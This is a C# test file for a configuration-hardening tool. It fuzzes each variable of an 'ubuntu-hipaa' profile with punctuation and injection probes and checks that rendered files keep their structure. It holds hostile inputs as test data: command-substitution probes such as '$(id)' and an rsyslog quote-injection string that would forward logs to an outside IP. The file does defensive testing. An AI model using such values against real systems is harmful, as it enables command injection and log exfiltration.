using System.Collections.Immutable;
using System.Text.RegularExpressions;
using Harden.Planning;
using Harden.Profiles;
using Harden.Rendering;

namespace Harden.Core.Tests;

/// <summary>
/// No variable value may change the structure of a file harden renders. For every variable of the
/// shipped profile and every ASCII punctuation character (plus space and Unicode line and paragraph
/// separators), a value carrying that character is either refused, or renders every shipped file
/// with the same structure as a plain value: the same lines, quotes, brackets, separators and
/// comments, only the word changed.
/// </summary>
public sealed partial class InjectionFuzzTests
{
    private static readonly string[] Probes =
    [
        .. Enumerable.Range(0x20, 0x5F).Select(c => ((char)c).ToString()).Where(c => !char.IsLetterOrDigit(c[0])),
        "\u2028", "\u2029", "\u0085", "\u00a0", "\u200b", "\t", "\"; ", "\")\naction(", "${x}", "$(id)", "`id`", "{{ x }}",
    ];

    [GeneratedRegex(@"[A-Za-z0-9._:/@+-]+")]
    private static partial Regex WordRun();

    /// <summary>What a file is made of once every word is the same word.</summary>
    private static string Structure(string text) => WordRun().Replace(text, "w");

    private static IReadOnlyDictionary<string, string> RenderAll(Profile profile, IEnumerable<string> sets)
    {
        var desired = DesiredState.Render(profile, VariableBinder.Bind(profile, ["log_server=logs.example.org", "firewall=true", "time_servers=ntp.example.org", .. sets]),
            new TemplateRenderer(EmbeddedTemplateSource.Instance));
        // Keyed by module and position, not path: a path variable moves its file.
        return desired.Files.GroupBy(f => f.Module).SelectMany(g => g.Select((f, i) => (Key: $"{g.Key}#{i}", f.Content)))
            .ToDictionary(x => x.Key, x => x.Content);
    }

    private static IEnumerable<TestCaseData> Variables() =>
        ProfileLoader.Load("ubuntu-hipaa").Variables.Select(v => new TestCaseData(v.Name).SetName($"No value of {v.Name} changes a rendered file's structure"));

    [TestCaseSource(nameof(Variables))]
    public void No_value_changes_a_rendered_files_structure(string name)
    {
        var profile = ProfileLoader.Load("ubuntu-hipaa");
        var definition = profile.FindVariable(name)!;
        var plain = Sample(definition, "x");
        var baseline = RenderAll(profile, [$"{name}={plain}"]).ToDictionary(kv => kv.Key, kv => Structure(kv.Value));
        var accepted = new List<string>();
        // A comma separates the items of a list on the command line: two items, not an injection.
        var isList = definition.Type is VariableType.Names or VariableType.Paths or VariableType.Networks or VariableType.Ports;
        foreach (var probe in Probes.Where(p => !(isList && p == ",")))
        {
            var value = Sample(definition, "a" + probe + "b");
            try
            {
                definition.Parse(value);
            }
            catch (HardenException)
            {
                continue;
            }
            IReadOnlyDictionary<string, string> rendered;
            try
            {
                rendered = RenderAll(profile, [$"{name}={value}"]);
            }
            catch (HardenException)
            {
                // Refused where it is used (not a package name): nothing rendered at all.
                continue;
            }
            accepted.Add(probe);
            foreach (var (file, text) in rendered)
            {
                Assert.That(baseline.ContainsKey(file), Is.True, $"{name}={value} renders a file the plain value does not ({file})");
                Assert.That(Structure(text), Is.EqualTo(baseline[file]), $"{name}={Printable(value)} changes the structure of {file}");
            }
        }
        TestContext.Out.WriteLine($"{name}: accepted probes {string.Join(" ", accepted.Select(Printable))}");
    }

    /// <summary>A value of the variable's type with the given word in it.</summary>
    private static string Sample(VariableDefinition v, string word) => v.Type switch
    {
        VariableType.Int or VariableType.Port => (v.Min ?? 1).ToString(System.Globalization.CultureInfo.InvariantCulture) + (word == "x" ? "" : word),
        VariableType.Bool => word == "x" ? "true" : "true" + word,
        VariableType.Path or VariableType.Paths => v.Role switch
        {
            PathRole.Program => "/usr/bin/" + word,
            PathRole.Output => "/var/lib/" + word,
            _ => "/srv/" + word,
        },
        VariableType.Host => "host" + word + ".example.org",
        VariableType.Networks => "10.0.0.0/8" + (word == "x" ? "" : word),
        VariableType.Ports => "443" + (word == "x" ? "" : word),
        VariableType.Mode => "2770" + (word == "x" ? "" : word),
        VariableType.Time => "04:00" + (word == "x" ? "" : word),
        _ => "v" + word,
    };

    private static string Printable(string s) => VariableDefinition.Printable(s).Replace("\u2028", "\\u2028").Replace("\u2029", "\\u2029").Replace("\u0085", "\\u0085");

    [Test]
    public void The_rsyslog_quote_injection_is_refused()
    {
        var profile = ProfileLoader.Load("ubuntu-hipaa");
        var attack = "1g\") action(type=\"omfwd\" target=\"203.0.113.9\" port=\"514\" protocol=\"tcp";
        Assert.That(() => VariableBinder.Bind(profile, [$"log_queue_max_disk={attack}"]),
            Throws.TypeOf<HardenException>().With.Message.Contains("may contain only letters"));
    }
}
